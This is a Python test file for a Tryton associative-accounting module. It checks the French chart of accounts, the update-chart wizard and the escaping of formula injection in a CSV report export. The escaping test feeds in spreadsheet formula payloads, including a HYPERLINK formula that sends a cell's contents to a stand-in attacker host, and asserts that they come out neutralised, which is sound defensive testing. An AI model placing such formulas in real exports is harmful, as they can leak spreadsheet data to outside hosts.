import csv
import io
from decimal import Decimal

from trytond.modules.account.tests import create_chart
from trytond.modules.company.tests import create_company, set_company
from trytond.pool import Pool
from trytond.tests.test_tryton import ModuleTestCase, with_transaction

# Accounts of the plan comptable associatif and their parent.
ASSOCIATION_ACCOUNTS = {
    '194': '19', '195': '19', '196': '19', '4681': '468',
    '6894': '689', '6895': '689', '6896': '689', '744': '74',
    '75411': '7541', '75412': '7541', '75413': '7541', '7542': '754',
    '7543': '754', '7561': '756', '7562': '756', '7894': '789',
    '7896': '789', '860': '86', '864': '86', '870': '87', '875': '87',
    }


def chart_snapshot():
    "What the update-chart wizard could change on the company's chart."
    pool = Pool()
    Account = pool.get('account.account')
    Type = pool.get('account.account.type')
    accounts = {a.id: (a.code, a.name, a.parent and a.parent.id,
            a.type and a.type.id, a.closed, a.template and a.template.id)
        for a in Account.search([])}
    types = {t.id: (t.name, t.parent and t.parent.id, t.statement,
            t.sequence, t.template and t.template.id)
        for t in Type.search([])}
    return accounts, types


class AccountAssoTestCase(ModuleTestCase):
    "Test Connexion associative accounting module"
    module = 'connexion_account_asso'

    @with_transaction()
    def test_cer_csv_formulas(self):
        "CER file: names that start like formulas are text, amounts numbers"
        from ..cer import to_csv
        lines = [{'section': "Emplois", 'reference': '1',
                'heading': '=1+1', 'amount': Decimal('-12.50'),
                'total': False}]
        details = [
            ('6068', '=HYPERLINK("http://evil.example/?"&A1;"Voir")',
                '@SUM(1+1)', Decimal('-3.00')),
            ('626', '-1+1', '+1', Decimal('4.00')),
            ('627', '\t=1+1', 'Frais', Decimal('0.50'))]
        content = to_csv(lines, details, Decimal('0.3521'))
        rows = list(csv.reader(io.StringIO(content.decode('utf-8-sig')),
                delimiter=';'))
        self.assertEqual(rows[1], ["Emplois", '1', "'=1+1", '-12,50'])
        self.assertIn(['6068', """'=HYPERLINK("http://evil.example/?"&A1;"""
                '"Voir")', "'@SUM(1+1)", '-3,00'], rows)
        self.assertIn(['626', "'-1+1", "'+1", '4,00'], rows)
        self.assertIn(['627', "'\t=1+1", 'Frais', '0,50'], rows)
        self.assertIn(['', '', 'Share of public generosity in resources',
                '35,21 %'], rows)

    @with_transaction()
    def test_create_update_chart(self):
        "Tryton's create-chart wizard with the French chart makes the "
        "associative accounts, in their place and type; its update-chart "
        "wizard changes nothing on that chart and brings back an account "
        "that is missing (one chart for both: its creation is slow)"
        pool = Pool()
        Account = pool.get('account.account')
        UpdateChart = pool.get('account.update_chart', type='wizard')
        company = create_company()
        with set_company(company):
            create_chart(company, chart='account_fr.root')
            accounts = {a.code: a for a in Account.search([
                        ('code', '!=', None)])}
            for code, parent in ASSOCIATION_ACCOUNTS.items():
                with self.subTest(code=code):
                    self.assertEqual(accounts[code].parent.code, parent)
                    self.assertTrue(accounts[code].template)
            self.assertEqual(accounts['754'].name,
                "Ressources liées à la générosité du public")
            self.assertEqual(accounts['196'].type.parent.name, "Passif")
            self.assertEqual(accounts['864'].type.statement, 'income')
            self.assertEqual(accounts['864'].type.parent.name,
                "Contributions volontaires en nature (hors résultat)")
            self.assertEqual(accounts['875'].type.name,
                "Contributions volontaires en nature")
            self.assertTrue(accounts['7541'].closed)
            self.assertFalse(accounts['75411'].closed)

            root, = Account.search([('parent', '=', None)])

            def update():
                session_id, _, _ = UpdateChart.create()
                wizard = UpdateChart(session_id)
                wizard.start.account = root
                wizard.transition_update()
                UpdateChart.delete(session_id)

            before = chart_snapshot()
            update()
            self.assertEqual(chart_snapshot(), before)

            # A chart made without the account (before the module was
            # activated, or the account deleted) gets it back.
            account, = Account.search([('code', '=', '7562')])
            Account.delete([account])
            update()
            account, = Account.search([('code', '=', '7562')])
            self.assertEqual(account.name, "Cotisations avec contrepartie")
            self.assertEqual(account.parent.code, '756')


del ModuleTestCase
